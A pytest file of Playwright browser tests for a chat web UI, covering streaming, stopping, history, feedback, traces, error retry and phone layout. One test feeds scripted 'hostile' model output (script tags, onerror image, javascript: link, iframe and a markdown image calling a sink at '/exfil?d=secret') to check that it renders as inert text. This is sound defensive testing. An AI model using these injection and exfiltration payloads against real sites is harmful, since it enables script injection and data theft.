"""The web chat in a real browser (Debian's chromium through Playwright) against real `rill serve` servers.

The demo (flows/docs_qa.yaml: guardrail -> retrieval over rillflow's docs -> local Gemma) runs as the
real CLI in a subprocess and answers one question, plus one that is stopped. Everything else runs on
scripted flows in-process (tests/live_server.py), where timing and failures are exact: history,
feedback, the trace waterfall, errors and retry, hostile model output, a phone-sized screen.

What the page showed while it streamed comes from a recorder installed before the page's scripts
(tests/browser.py): samples of the answer's length and the steps at every DOM change, so assertions
about "before the answer finished" read what happened rather than racing a poll. Screenshots go to
tests/artifacts/ (gitignored), named after the test.
"""

from __future__ import annotations

import itertools
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, expect, sync_playwright

from rillflow.ui.limits import KeyLimits
from rillflow.ui.settings import ServeSettings
from tests.browser import ChatPage, RecordingServer, launch, recording_server, streamed_lengths
from tests.live_server import LiveServer, free_port, serving

OpenChat = Callable[..., ChatPage]

REPO = Path(__file__).resolve().parent.parent
DEMO_START_S = 150  # ingest ~230 chunks, load the embedder and Gemma
DEMO_ANSWER_MS = 120_000  # up to 160 tokens at ~10 tokens/s on a small CPU

CHAT = """\
version: 1
name: chat
description: A scripted chat whose answer repeats the history it was given.
inputs:
  question: {type: string, max_length: 500}
  history: {type: chat_history, default: []}
outputs:
  answer: ${answer.text}
  sources: ${sources.value}
nodes:
  sources: {type: static, value: [{marker: "[1]", source: docs/a.md, title: Alpha, heading: "Alpha > Intro", lines: [1, 5], pages: null, label: "[1] Alpha"}]}
  prompt:
    type: prompt
    template: "{% for m in history %}{{ m.role }}:{{ m.content }} {% endfor %}Q: {{ question }}"
    vars: {history: "${inputs.history}", question: "${inputs.question}"}
  answer: {type: scripted, text: "${prompt.text} -- so here is a scripted answer that cites [1] in a few more words.", delay: 40ms}
"""

BROKEN = """\
version: 1
name: broken
inputs:
  question: {type: string, max_length: 500}
outputs:
  answer: ${answer.text}
nodes:
  answer: {type: scripted, text: "never shown", fail_attempts: [1], error: server}
"""

# Long unbroken text and a code line far wider than a phone: the page must wrap or scroll them in place.
WIDE_TOKENS = [
    "A link that must wrap on a phone: ",
    "https://example.com/a/very/long/path/that/keeps/going/and/going/without/any/break/at/all/index.html",
    "\n\nAnd a code block:\n\n```python\n",
    "answer = render(question, documents, history, budget=2048, reserve=200, trim='documents')  # wider than a phone\n",
    "```\n\n",
    "Antidisestablishmentarianism" * 3,
    " is one long word, and this is the end.",
]


def wide_flow() -> str:
    return f"""\
version: 1
name: wide
inputs:
  question: {{type: string, max_length: 500}}
outputs:
  answer: ${{answer.text}}
nodes:
  answer: {{type: scripted, tokens: {json.dumps(WIDE_TOKENS)}, delay: 30ms}}
"""


def hostile_tokens(sink: str) -> list[str]:
    """Model output that would run script or leak the chat to ``sink`` if the page parsed it as HTML or loaded it."""
    return [
        "Here is what the model said:\n\n",
        '<img src=x onerror="window.__xss=1">',
        "\n\n",
        "<script>window.__xss=2</script>",
        "\n\n",
        "[click](javascript:window.__xss=3)",
        "\n\n",
        f"![leak]({sink}/exfil?d=secret)",
        "\n\n",
        f'<iframe src="{sink}/frame"></iframe>',
        "\n\nThat is all.",
    ]


def hostile_flow(sink: str) -> str:
    source = {"marker": "[1]", "source": "docs/x.md", "title": "<img src=x onerror=window.__xss=4>", "lines": [1, 2]}
    return f"""\
version: 1
name: hostile
inputs:
  question: {{type: string, max_length: 500}}
outputs:
  answer: ${{answer.text}}
  sources: ${{sources.value}}
nodes:
  sources: {{type: static, value: {json.dumps([source])}}}
  answer: {{type: scripted, tokens: {json.dumps(hostile_tokens(sink))}, delay: 30ms}}
"""


# ---- fixtures ----------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        chromium = launch(playwright)
        try:
            yield chromium
        finally:
            chromium.close()


@pytest.fixture
def open_chat(browser: Browser) -> Iterator[OpenChat]:
    """Open the chat in a fresh browser context; every page opened is closed after the test."""
    pages: list[ChatPage] = []

    def opener(url: str, **context_options: Any) -> ChatPage:
        page = ChatPage(browser, url, **context_options)
        pages.append(page)
        return page

    yield opener
    for page in pages:
        page.close()


@pytest.fixture(scope="module")
def sink() -> Iterator[RecordingServer]:
    with recording_server() as server:
        yield server


@pytest.fixture(scope="module")
def scripted(tmp_path_factory: pytest.TempPathFactory, sink: RecordingServer) -> Iterator[LiveServer]:
    tmp = tmp_path_factory.mktemp("browser")
    flows = {"chat.yaml": CHAT, "broken.yaml": BROKEN, "wide.yaml": wide_flow(), "hostile.yaml": hostile_flow(sink.url)}
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("RILL_STATE_DIR", str(tmp / "state"))
        settings = ServeSettings(cache=False, trace=True, limits=KeyLimits(requests_per_minute=10_000, max_streams=20))
        with serving(flows, settings, tmp=tmp) as server:
            yield server


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """`rill serve` on a copy of flows/docs_qa.yaml, as a subprocess; its URL once /readyz says ready.

    The copy sits beside links to the repo's docs/ and README.md, so its `sources: [../docs, ../README.md]`
    resolve as in the repo while the Qdrant folder and state it writes stay in the temporary folder.
    """
    tmp = tmp_path_factory.mktemp("demo")
    (tmp / "flows").mkdir()
    shutil.copy(REPO / "flows" / "docs_qa.yaml", tmp / "flows" / "docs_qa.yaml")
    (tmp / "docs").symlink_to(REPO / "docs", target_is_directory=True)
    (tmp / "README.md").symlink_to(REPO / "README.md")
    port = free_port()
    env = {**os.environ, "HF_HUB_OFFLINE": "1", "RILL_STATE_DIR": str(tmp / "state")}
    log_path = tmp / "serve.log"
    with log_path.open("wb") as log:
        proc = subprocess.Popen([sys.executable, "-m", "rillflow.runtime.cli", "serve", str(tmp / "flows"), "--port", str(port)],
                                cwd=tmp, env=env, stdout=log, stderr=subprocess.STDOUT)
        try:
            url = f"http://127.0.0.1:{port}"
            wait_ready(proc, url, log_path)
            yield url
        finally:
            proc.send_signal(signal.SIGTERM)
            try:
                proc.wait(timeout=30)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()


def wait_ready(proc: subprocess.Popen[bytes], url: str, log_path: Path) -> None:
    deadline = time.monotonic() + DEMO_START_S
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            pytest.fail(f"rill serve exited with {proc.returncode} before it was ready:\n{log_path.read_text(errors='replace')}")
        try:
            if httpx.get(f"{url}/readyz", timeout=2).status_code == 200:
                return
        except httpx.TransportError:
            pass  # not listening yet: it ingests and loads models first
        time.sleep(0.5)
    pytest.fail(f"rill serve was not ready after {DEMO_START_S} s:\n{log_path.read_text(errors='replace')}")


def metric(url: str, line_start: str) -> float:
    """The value of the first /metrics sample line starting with ``line_start``."""
    for line in httpx.get(f"{url}/metrics").text.splitlines():
        if line.startswith(line_start):
            return float(line.rsplit(" ", 1)[1])
    raise AssertionError(f"no metric {line_start!r} on {url}/metrics")


def assert_page_clean(chat: ChatPage) -> None:
    """No uncaught script errors, console errors or CSP violations: the page did nothing it may not do."""
    assert chat.page_errors == []
    assert chat.console_errors() == []
    assert chat.csp_violations() == []


# ---- the demo: real retrieval and a real local model -------------------------------------------

def test_the_demo_shows_steps_while_the_answer_streams_then_sources_and_graph(open_chat: OpenChat, demo: str) -> None:
    chat = open_chat(demo)
    page = chat.page
    chat.pick("docs_qa")
    expect(page.locator("#graph [data-node]")).to_have_count(6)  # screen, search, prompt, answer, its remote fallback, checked
    turn = chat.ask("How do I cache node results?")

    page.wait_for_function("() => document.querySelector('.msg.assistant .answer')?.textContent.trim().length > 0",
                           timeout=DEMO_ANSWER_MS)
    ended_early = turn.locator(".actions, .error").count() > 0
    chat.screenshot("test_the_demo_shows_steps_while_the_answer_streams_then_sources_and_graph-midstream")
    assert not ended_early, "the first words should show while the model is still generating"
    chat.wait_ended(turn, timeout=DEMO_ANSWER_MS)
    expect(turn.locator(".error")).to_have_count(0)

    samples = chat.samples()
    end = next(s["t"] for s in samples if s["ended"])
    first_words = next(s for s in samples if s["length"] > 0)
    assert {"screen", "search"} <= set(first_words["steps"]), "the steps show before the answer starts"
    progress = [s["steps"]["search"][1] for s in samples if s["t"] < end and "search" in s["steps"]]
    assert any(re.search(r"\d+/\d+", detail) for detail in progress), f"retrieval progress never showed: {progress}"
    assert first_words["steps"]["search"][0] == "finished", "retrieval finishes before the model's first words"
    lengths = streamed_lengths(samples, turn_count=1)
    # Markdown renders as it streams: a closing ` or ** turns literal marks into formatting, so the
    # visible text may dip by those few characters; it never loses words.
    dips = [prev - now for prev, now in itertools.pairwise(lengths) if now < prev]
    assert len(lengths) >= 3 and lengths[-1] > lengths[0] and all(d <= 4 for d in dips), f"the answer should grow in several updates, saw {lengths}"

    sources = turn.locator(".sources li.source")
    expect(sources.first).to_be_visible()
    assert any(re.search(r"(docs/[\w.-]+|README)\.md", text) for text in sources.all_inner_texts())
    for node in ("screen", "search", "prompt", "answer", "checked"):
        expect(page.locator(f'#graph [data-node="{node}"]')).to_have_class(re.compile(r"\bstate-finished\b"))
        expect(page.locator(f'li.step[data-node="{node}"]')).to_have_attribute("data-state", "finished")
    chat.screenshot("test_the_demo_shows_steps_while_the_answer_streams_then_sources_and_graph-final")
    assert_page_clean(chat)


def test_stop_ends_a_demo_answer_and_the_server_stays_ready(open_chat: OpenChat, demo: str) -> None:
    chat = open_chat(demo)
    page = chat.page
    turn = chat.ask("What does rill serve do?")
    page.wait_for_function("() => document.querySelector('.msg.assistant .answer')?.textContent.trim().length > 0",
                           timeout=DEMO_ANSWER_MS)
    expect(page.locator("#stop")).to_be_visible()
    page.click("#stop")

    expect(turn.locator(".error .error-text")).to_have_text("Stopped.")
    answer_length = "a => a.textContent.length"  # what the recorder samples
    stopped_length = turn.locator(".answer").evaluate(answer_length)
    stopped_at = page.evaluate("() => performance.now()")
    expect(page.locator("#stop")).to_be_hidden()
    expect(page.locator("#stop")).to_be_disabled()
    expect(page.locator("#send")).to_be_enabled()
    for node in ("answer", "checked"):
        step = page.locator(f'li.step[data-node="{node}"]')
        expect(step).to_have_attribute("data-state", "skipped")
        expect(step).to_contain_text("stopped")

    page.wait_for_timeout(2_000)  # the observation window: a run that was not stopped would keep adding words
    assert turn.locator(".answer").evaluate(answer_length) == stopped_length
    assert all(s["length"] == stopped_length for s in chat.samples() if s["t"] >= stopped_at)
    chat.screenshot("test_stop_ends_a_demo_answer_and_the_server_stays_ready")

    assert httpx.get(f"{demo}/readyz").status_code == 200
    deadline = time.monotonic() + 10
    while metric(demo, "rill_admission_active") or metric(demo, 'rill_active_streams{api="runs"}'):
        assert time.monotonic() < deadline, "the server still holds the stopped run's slot or stream"
        time.sleep(0.2)
    assert_page_clean(chat)


# ---- scripted flows ----------------------------------------------------------------------------

def test_a_scripted_answer_streams_and_the_next_question_carries_the_history(open_chat: OpenChat, scripted: LiveServer) -> None:
    chat = open_chat(scripted.url)
    page = chat.page
    chat.pick("chat")
    first = chat.ask("first question")
    chat.wait_ended(first)
    first_text = "Q: first question -- so here is a scripted answer that cites [1] in a few more words."
    expect(first.locator(".answer")).to_have_text(first_text.replace("[1]", "1"))  # [1] is a citation chip
    expect(first.locator("sup.cite")).to_have_attribute("data-marker", "[1]")
    lengths = streamed_lengths(chat.samples(), turn_count=1)
    assert len(lengths) >= 3, f"the answer should arrive in several updates, saw {lengths}"
    expect(first.locator(".sources li.source")).to_contain_text(["Alpha"])

    second = chat.ask("second question")
    chat.wait_ended(second)
    assert chat.run_requests[1]["inputs"] == {
        "question": "second question",
        "history": [{"role": "user", "content": "first question"}, {"role": "assistant", "content": first_text}],
    }
    expect(second.locator(".answer")).to_contain_text("user:first question assistant:Q: first question -- so here")
    expect(second.locator(".answer")).to_contain_text("Q: second question -- so here")
    expect(page.locator(".msg.user")).to_have_count(2)
    assert_page_clean(chat)


def test_thumbs_down_with_a_comment_is_stored_and_the_trace_shows_every_node(open_chat: OpenChat, scripted: LiveServer) -> None:
    chat = open_chat(scripted.url)
    page = chat.page
    chat.pick("chat")
    turn = chat.ask("rate me")
    chat.wait_ended(turn)
    run_id = chat.run_ids[-1]

    turn.locator("button.thumb-down").click()
    expect(turn.locator("button.thumb-down")).to_have_attribute("aria-pressed", "true")
    turn.locator("textarea.comment").fill("the answer missed the point")
    turn.locator("button.send-feedback").click()
    expect(turn.locator(".feedback-done")).to_have_text("Thanks for the feedback.")
    stored = httpx.get(f"{scripted.url}/api/runs/{run_id}").json()
    assert [(f["score"], f["comment"]) for f in stored["feedback"]] == [(-1, "the answer missed the point")]

    turn.locator("button.open-trace").click()
    expect(page.locator("#trace")).to_be_visible()
    expect(page.locator("#trace .trace-status")).to_contain_text(run_id[:12])
    expect(page.locator("#trace .span")).to_have_count(3)
    assert sorted(page.locator("#trace .span").evaluate_all("rows => rows.map((r) => r.dataset.node)")) == ["answer", "prompt", "sources"]
    expect(page.locator('#trace .span[data-node="answer"]')).to_have_class(re.compile(r"\bstatus-ok\b"))
    chat.screenshot("test_thumbs_down_with_a_comment_is_stored_and_the_trace_shows_every_node")
    assert_page_clean(chat)


def test_a_failed_run_shows_a_friendly_error_and_try_again_asks_again(open_chat: OpenChat, scripted: LiveServer) -> None:
    chat = open_chat(scripted.url)
    page = chat.page
    chat.pick("broken")
    turn = chat.ask("will this work?")
    chat.wait_ended(turn)
    expect(turn.locator(".error .error-text")).to_have_text("Something went wrong (server).")
    text = turn.inner_text()
    assert "Traceback" not in text and ".py" not in text and 'File "' not in text
    expect(page.locator('li.step[data-node="answer"]')).to_have_attribute("data-state", "failed")
    chat.screenshot("test_a_failed_run_shows_a_friendly_error_and_try_again_asks_again")

    turn.locator("button.retry").click()
    expect(page.locator(".msg.user")).to_have_count(1)  # the failed turn is replaced, not repeated
    retried = page.locator(".msg.assistant")
    expect(retried).to_have_count(1)
    chat.wait_ended(retried)
    expect(retried.locator(".error .error-text")).to_have_text("Something went wrong (server).")
    assert [r["inputs"]["question"] for r in chat.run_requests] == ["will this work?", "will this work?"]
    assert len(set(chat.run_ids)) == 2, "Try again starts a new run"
    assert_page_clean(chat)


def test_hostile_model_output_and_source_titles_stay_inert_text(open_chat: OpenChat, scripted: LiveServer, sink: RecordingServer) -> None:
    csp = httpx.get(f"{scripted.url}/").headers["content-security-policy"]
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp and "img-src 'self' data:" in csp

    chat = open_chat(scripted.url)
    page = chat.page
    chat.pick("hostile")
    turn = chat.ask("say something dangerous")
    chat.wait_ended(turn)
    expect(turn.locator(".error")).to_have_count(0)
    answer = turn.locator(".answer")
    for literal in ('<img src=x onerror="window.__xss=1">', "<script>window.__xss=2</script>", "[click](javascript:window.__xss=3)",
                    "[image: leak]", f'<iframe src="{sink.url}/frame"></iframe>'):
        expect(answer).to_contain_text(literal)
    expect(turn.locator(".sources li.source .source-title")).to_have_text("<img src=x onerror=window.__xss=4>")
    chat.screenshot("test_hostile_model_output_and_source_titles_stay_inert_text")

    messages = page.locator("#messages")
    assert messages.locator("img, script, iframe, object, embed, [onerror], [src]").count() == 0
    assert messages.locator('a[href^="javascript:" i]').count() == 0
    links = messages.locator("a").evaluate_all("links => links.map((a) => [a.protocol, a.rel])")
    assert links == [["http:", "noopener noreferrer nofollow"]], "only the iframe's bare http URL becomes a link (not followed)"
    assert page.evaluate("() => typeof window.__xss") == "undefined"
    assert sink.paths == [], "the page fetched from a URL the model wrote"
    assert_page_clean(chat)


def test_a_phone_sized_screen_shows_the_composer_and_the_answer_without_sideways_scrolling(
        open_chat: OpenChat, scripted: LiveServer) -> None:
    chat = open_chat(scripted.url, viewport={"width": 360, "height": 640}, is_mobile=True, has_touch=True)
    page = chat.page
    chat.pick("wide")
    turn = chat.ask("show me something wide")
    chat.wait_ended(turn)
    answer = turn.locator(".answer")
    expect(answer).to_contain_text("this is the end.")
    for target in (page.locator("#question"), page.locator("#send"), answer):
        expect(target).to_be_in_viewport()
        box = target.bounding_box()
        assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= 360, box
    assert page.evaluate("() => document.documentElement.scrollWidth") <= 360
    chat.screenshot("test_a_phone_sized_screen_shows_the_composer_and_the_answer_without_sideways_scrolling")
    assert_page_clean(chat)
